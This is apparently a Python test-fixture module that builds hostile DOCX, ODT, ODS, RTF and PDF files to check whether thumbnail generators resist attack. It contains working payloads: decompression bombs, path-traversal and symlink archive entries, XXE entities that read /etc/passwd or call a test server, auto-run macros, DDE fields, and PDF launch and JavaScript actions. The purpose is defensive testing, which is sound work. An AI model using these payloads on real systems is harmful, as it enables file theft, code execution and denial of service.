"""Files that attack the programs that make thumbnails."""

import io
import random
import struct
import zipfile
import zlib

HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
TEXT = "<w:p><w:r><w:t>Text</w:t></w:r></w:p>"
ODF = " ".join(
    f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{value}:1.0"'
    for name, value in [("office", "office"), ("text", "text"), ("draw", "drawing"), ("table", "table"), ("script", "script"),
        ("svg", "svg-compatible"), ("manifest", "manifest")]) + (
    ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dom="http://www.w3.org/2001/xml-events" '
    'xmlns:ooo="http://openoffice.org/2004/office"')


def packed(files):
    """A zip archive; a value may be an iterable of pieces, a key a `ZipInfo`."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            if isinstance(content, (str, bytes)):
                archive.writestr(name, content, zipfile.ZIP_DEFLATED)
                continue
            with archive.open(name, "w") as entry:
                for piece in content:
                    entry.write(piece)
    return target.getvalue()


def relations(*entries):
    rows = "".join(
        f'<Relationship Id="r{number}" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'
        for number, (kind, target, mode) in enumerate(entries))
    return f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{rows}</Relationships>'


OUTSIDE = ' TargetMode="External"'


def docx(body=TEXT, document=None, links=(), more=None):
    """A document of Word: its body or its whole XML, its relations, more parts."""
    types = (
        f'{HEAD}<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="png" ContentType="image/png"/><Default Extension="svg" ContentType="image/svg+xml"/>'
        '<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    whole = f'{HEAD}<w:document {WORD} xmlns:r="{RELATIONS}"><w:body>{body}</w:body></w:document>'
    return packed({
        "[Content_Types].xml": types, "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
        "word/document.xml": whole if document is None else document, "word/_rels/document.xml.rels": relations(*links), **(more or {})})


def picture(relation, attribute="embed"):
    """A picture in a document of Word."""
    a = "http://schemas.openxmlformats.org/drawingml/2006"
    return (
        f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{a}/wordprocessingDrawing"><wp:extent cx="990000" cy="990000"/>'
        f'<wp:docPr id="1" name="a"/><a:graphic xmlns:a="{a}/main"><a:graphicData uri="{a}/picture"><pic:pic xmlns:pic="{a}/picture">'
        f'<pic:nvPicPr><pic:cNvPr id="0" name="a"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:{attribute}="{relation}"/>'
        '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="990000" cy="990000"/></a:xfrm><a:prstGeom prst="rect"/>'
        "</pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>")


def odf(kind, body, scripts="", more=None):
    """A document of OpenDocument."""
    media = f"application/vnd.oasis.opendocument.{kind}"
    content = (
        f'{HEAD}<office:document-content {ODF} office:version="1.3">{scripts}<office:body>{body}</office:body></office:document-content>')
    names = [("/", media), ("content.xml", "text/xml"), *[(name, "text/xml") for name in more or {}]]
    entries = "".join(f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="{kind}"/>' for name, kind in names)
    manifest = f"{HEAD}<manifest:manifest {ODF}>{entries}</manifest:manifest>"
    return packed({"mimetype": media, "content.xml": content, "META-INF/manifest.xml": manifest, **(more or {})})


def text(body, scripts="", more=None):
    return odf("text", f"<office:text>{body}</office:text>", scripts, more)


def sheet(row, cells):
    table = f"<table:table><table:table-row {row}>{cells}</table:table-row></table:table>"
    return odf("spreadsheet", f"<office:spreadsheet>{table}</office:spreadsheet>")


def macro(marker):
    """A text with a macro that runs when it is opened."""
    module = (
        f'{HEAD}<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">'
        f'Sub Main\nShell("/usr/bin/touch", 0, "{marker}", True)\nEnd Sub</script:module>')
    library = (
        f'{HEAD}<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" '
        'library:passwordprotected="false"><library:element library:name="Module1"/></library:library>')
    libraries = library.replace("library:library ", "library:libraries ").replace("</library:library>", "</library:libraries>").replace(
        '<library:element library:name="Module1"/>', '<library:library library:name="Standard" library:link="false"/>')
    scripts = (
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/>'
        "</office:event-listeners></office:scripts>")
    return text("<text:p>Text</text:p>", scripts, {
        "Basic/Standard/Module1.xml": module, "Basic/Standard/script-lb.xml": library, "Basic/script-lc.xml": libraries})


def pdf(*objects, catalogue="/Pages 2 0 R", pages="/Kids [3 0 R] /Count 1", page="/MediaBox [0 0 100 100]", before=None):
    """A file of one page, with more objects from number 4 on. `before` is the place of an older table of objects."""
    first = [f"<</Type /Catalog {catalogue}>>", f"<</Type /Pages {pages}>>", f"<</Type /Page /Parent 2 0 R {page}>>"]
    parts = [*(part.encode() for part in first), *objects]
    text, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(text))
        text += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    start = len(text)
    text += b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    older = b"" if before is None else b"/Prev %d" % (start if before < 0 else before)
    return text + b"trailer\n<</Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(parts) + 1, older, start)


def stream(content, fields=b""):
    return b"<<%s /Length %d>>\nstream\n%s\nendstream" % (fields, len(content), content)


def flattened(size):
    """So many zeros, packed twice."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(bytes(1 << 20)) for _ in range(size >> 20)) + packer.flush()
    return zlib.compress(once, 9)


def png(width, height):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(1 << 20))) + chunk(b"IEND", b"")


def repeated(entry, count):
    """An archive whose directory names one entry many times, so that its files overlap."""
    archive = packed({"word/document.xml": entry})
    start = archive.index(b"PK\1\2")
    end = archive.index(b"PK\5\6")
    row = archive[start:end]
    return archive[:start] + row * count + b"PK\5\6" + struct.pack("<4H2IH", 0, 0, count, count, len(row) * count, start, 0)


def symbolic_link(name):
    link = zipfile.ZipInfo(name)
    (link.create_system, link.external_attr) = (3, 0o120777 << 16)
    return link


def laughs(root):
    entities = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{entities}]>{root}'


def document(text):
    return f"<w:document {WORD}><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"


def hostile_files(origin, outside):
    """Files by their names. `origin` is a server that must not be asked, `outside` a folder into which nothing may be written."""
    noise = random.Random(1).randbytes(50_000)
    marker = f"{outside}/marker"
    nested = docx()
    for _ in range(12):
        nested = packed({"word/document.xml": nested, "inner.docx": nested})
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{origin}/svg" width="9" height="9"/>'
        f'<script>location = "{origin}/js"</script></svg>')
    action = f'/OpenAction <</S /Launch /F (/usr/bin/touch) /Unix <</F (/usr/bin/touch) /P ({marker})>>>>'
    script = f'/OpenAction <</S /JavaScript /JS (app.launchURL\\("{origin}/js"\\); this.submitForm\\("{origin}/form"\\))>>'
    cell = '<table:table-cell table:formula="of:=WEBSERVICE(&quot;{}/service&quot;)" office:value-type="string"/>'.format(origin)
    return {
        # The six of the short form.
        "entities.docx": docx(document=laughs(document("&l9;"))),
        "outside.docx": packed({
            "../../../marker": "x", marker: "x", marker[1:]: "x", "..\\..\\marker": "x", "word/document.xml": document("a")}),
        "linked-picture.docx": docx(picture("r0", "link"), links=[("image", f"{origin}/picture.png", OUTSIDE)]),
        "truncated.docx": docx()[:700],
        "empty.docx": b"",
        "script.pdf": pdf(catalogue=f"/Pages 2 0 R {script}"),
        # Archives.
        "bomb.docx": docx(document=(b" " * (1 << 20) for _ in range(400))),
        "entries.docx": packed({f"word/{number}.xml": "" for number in range(60_000)}),
        "overlapping.docx": repeated(" " * 10_000_000, 5_000),
        "nested.docx": nested,
        "link.docx": packed({symbolic_link("word/document.xml"): "/etc/passwd", symbolic_link("word"): "/etc"}),
        "many-names.docx": packed({f"{'a/' * 2000}{number}": "" for number in range(20)}),
        # Their XML.
        "entity-file.docx": docx(document=f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>{document("&a;")}'),
        "entity-server.docx": docx(document=f'<!DOCTYPE x [<!ENTITY a SYSTEM "{origin}/entity">]>{document("&a;")}'),
        "deep.docx": docx("<w:tbl><w:tr><w:tc>" * 5_000 + TEXT + "</w:tc></w:tr></w:tbl>" * 5_000),
        "deeper.odt": text("<text:section>" * 100_000 + "</text:section>" * 100_000),
        "cells.ods": sheet('table:number-rows-repeated="1048576"', '<table:table-cell table:number-columns-repeated="16384" '
            'office:value-type="float" office:value="1"/>'),
        # What they lead to.
        "template.docx": docx(
            links=[("attachedTemplate", f"{origin}/template.dotm", OUTSIDE), ("oleObject", f"{origin}/object", OUTSIDE)]),
        "field.docx": docx(
            f'<w:p><w:fldSimple w:instr="DDEAUTO touch {marker}"/><w:fldSimple w:instr="INCLUDEPICTURE {origin}/field"/></w:p>'),
        "picture.odt": text('<text:p><draw:frame svg:width="1cm" svg:height="1cm">'
            f'<draw:image xlink:href="{origin}/odt.png"/></draw:frame></text:p>'),
        "section.odt": text("".join(
            f'<text:section text:name="{name}"><text:section-source xlink:href="{address}"/></text:section>'
            for name, address in [("a", f"{origin}/section.odt"), ("b", "file:///etc/passwd")])),
        "service.ods": sheet("", cell),
        "field.rtf": (
            r"{\rtf1{\field{\*\fldinst INCLUDEPICTURE " + origin + r"/rtf MERGEFORMAT \\d}}"
            r"{\*\template " + origin + "/rtf.dot}}").encode(),
        "groups.rtf": b"{\\rtf1" + b"{" * 200_000,
        "macro.odt": macro(marker),
        # Pictures.
        "huge.docx": docx(picture("r0"), links=[("image", "a.png", "")], more={"word/a.png": png(60_000, 60_000)}),
        "picture.docx": docx(picture("r0"), links=[("image", "a.svg", "")], more={"word/a.svg": svg}),
        # Other files than their names say.
        "drawing.docx": svg.encode(),
        "noise.doc": bytes.fromhex("d0cf11e0a1b11ae1") + noise,
        "noise.xlsx": noise,
        "program.pptx": b"\x7fELF" + noise,
        "pdf.docx": pdf(),
        "docx.pdf": docx(),
        "empty.pdf": b"",
        # PDF files.
        "launch.pdf": pdf(catalogue=f"/Pages 2 0 R {action}"),
        "truncated.pdf": pdf()[:120],
        "loop.pdf": pdf(pages="/Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R"),
        "tables.pdf": pdf(before=-1),
        "pages.pdf": pdf(pages="/Kids [3 0 R] /Count 2147483647"),
        "huge.pdf": pdf(page="/MediaBox [-1e30 -1e30 1e30 1e30] /UserUnit 1e9"),
        "form-loop.pdf": pdf(
            stream(b"/a Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</a 4 0 R>>>>"),
            stream(b"/a Do"), page="/MediaBox [0 0 9 9] /Contents 5 0 R /Resources <</XObject <</a 4 0 R>>>>"),
        "bomb.pdf": pdf(stream(flattened(1 << 30), b"/Filter [/FlateDecode /FlateDecode]"), page="/MediaBox [0 0 9 9] /Contents 4 0 R"),
        "picture.pdf": pdf(
            stream(b"", f"/F <</FS /URL /F ({origin}/pdf)>> /Type /XObject /Subtype /Image /Width 99999 /Height 99999 ".encode()
                + b"/ColorSpace /DeviceRGB /BitsPerComponent 8"), stream(b"/a Do"),
            page="/MediaBox [0 0 9 9] /Contents 5 0 R /Resources <</XObject <</a 4 0 R>>>>"),
    }
